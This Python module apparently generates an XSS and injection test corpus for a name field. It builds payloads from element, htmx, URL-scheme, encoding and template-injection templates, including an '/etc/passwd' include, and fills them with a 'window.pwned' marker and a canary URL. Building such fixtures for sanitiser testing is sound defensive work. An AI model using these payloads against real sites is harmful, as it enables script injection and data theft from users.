"""What an attacker writes where a name is asked for: markup, htmx, schemes, and odd characters."""

from collections.abc import Iterator
from itertools import product

LONGEST = 200  # characters of a name

_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</option></select>", "]]>")
_ELEMENTS = (
    "<img src=x onerror={js}>",
    "<img src={url} onload={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><image href={url} /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<video src={url} onerror={js}></video>",
    "<video poster={url}></video>",
    "<audio src={url} autoplay onerror={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data={url} onerror={js}></object>",
    "<embed src={url}>",
    "<script>{js}</script>",
    "<script src={url}></script>",
    "<style onload={js}>@import '{url}';</style>",
    "<link rel=stylesheet href={url} onload={js}>",
    "<div style=background:url({url})>x</div>",
    "<marquee onstart={js}>x</marquee>",
)
_HTMX = (
    "hx-get={url} hx-trigger=load",
    "HX-GET={url} HX-TRIGGER=load",
    "data-hx-get={url} data-hx-trigger=load",
    "hx-post={url} hx-trigger='load delay:1ms'",
    "hx-put={url} hx-trigger=revealed",
    "hx-on:load={js}",
    "hx-on::load={js}",
    "hx-on--load={js}",
    "hx-on:htmx:load={js}",
    "hx-vals='js:{js}' hx-get=/ hx-trigger=load",
    "hx-vals='javascript:{js}' hx-get=/ hx-trigger=load",
    "hx-headers='js:{js}' hx-get=/ hx-trigger=load",
    "hx-trigger='load[{js}]' hx-get=/",
    "hx-boost=true hx-action={url}",
    "hx-swap-oob=outerHTML:body",
    "hx-sse:connect={url}",
    "hx-ws:connect={url}",
    "hx-config='{{\"js\":1}}' hx-live={js}",
)
_SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java&#115;cript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript&colon;{js}",
    "java&Tab;script:{js}",
    "java\tscript:{js}",
    " javascript:{js}",
    "javascript://%0a{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{js}",
    "{url}",
)
_LINKS = ("<a href='{scheme}'>x</a>", "[x]({scheme})", "<form action='{scheme}'><button>x")
_REST = (
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content=__Host-sid=x>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<template hx partial><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml-stylesheet href={url}?>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x0c>{js}</script>",
    "<ScRiPt>{js}</ScRiPt >",
    "<script/x>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{js}",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u202e<script>{js}</script>\u202c",
    "\u200b<\u200bscript>{js}</script>",
    "\u2028<script>{js}</script>\u2029",
    "{{{{7*7}}}}{{{{config}}}}",
    "{{% include '/etc/passwd' %}}",
    "${{alert(1)}}",
    "${{{{7*7}}}}",
    "`${{{js}}}`",
    "<%= 7*7 %>",
    "#{{7*7}}",
    "%(name)s %s %n",
    "';{js};//",
    '";{js};//',
    '" onfocus={js} autofocus x="',
    "' onfocus={js} autofocus x='",
    "x onmouseover={js}",
    '" hx-get={url} hx-trigger=load x="',
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{js}</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc=x onload={js}></foreignObject></svg>",
    "<portal src={url}>",
    "<button popovertarget=x>x</button><xss onbeforetoggle={js} popover id=x>",
    "<xss onscrollend={js} style=display:block;overflow:auto;height:9px>x",
    "<div id=main><div id=alerts><input name=_csrf value=x>",
    "<form id=x></form><button form=x formaction={url}>x</button>",
    "<a ping={url} href=#>x</a>",
    "<input type=image src={url}>",
    "<table background={url}><td background={url}>",
    "<body background={url}>",
    "<picture><source srcset={url}><img></picture>",
    "<track src={url}><source src={url}>",
)


def payloads(canary: str) -> list[str]:
    """All of them, each once; what loads, loads from `canary`, what runs sets `window.pwned`."""
    number = iter(range(10_000))
    made = dict.fromkeys(_templates())
    return [
        template.format(js=f"window.pwned={next(number)}", url=f"{canary}/{next(number)}")[:LONGEST]
        for template in made
    ]


def _templates() -> Iterator[str]:
    yield from _REST
    for before, element in product(_BREAKS, _ELEMENTS):
        yield before + element
    for before, attributes in product(_BREAKS[:3], _HTMX):
        yield f"{before}<div {attributes}>x</div>"
    for scheme, link in product(_SCHEMES, _LINKS):
        yield link.replace("{scheme}", scheme)
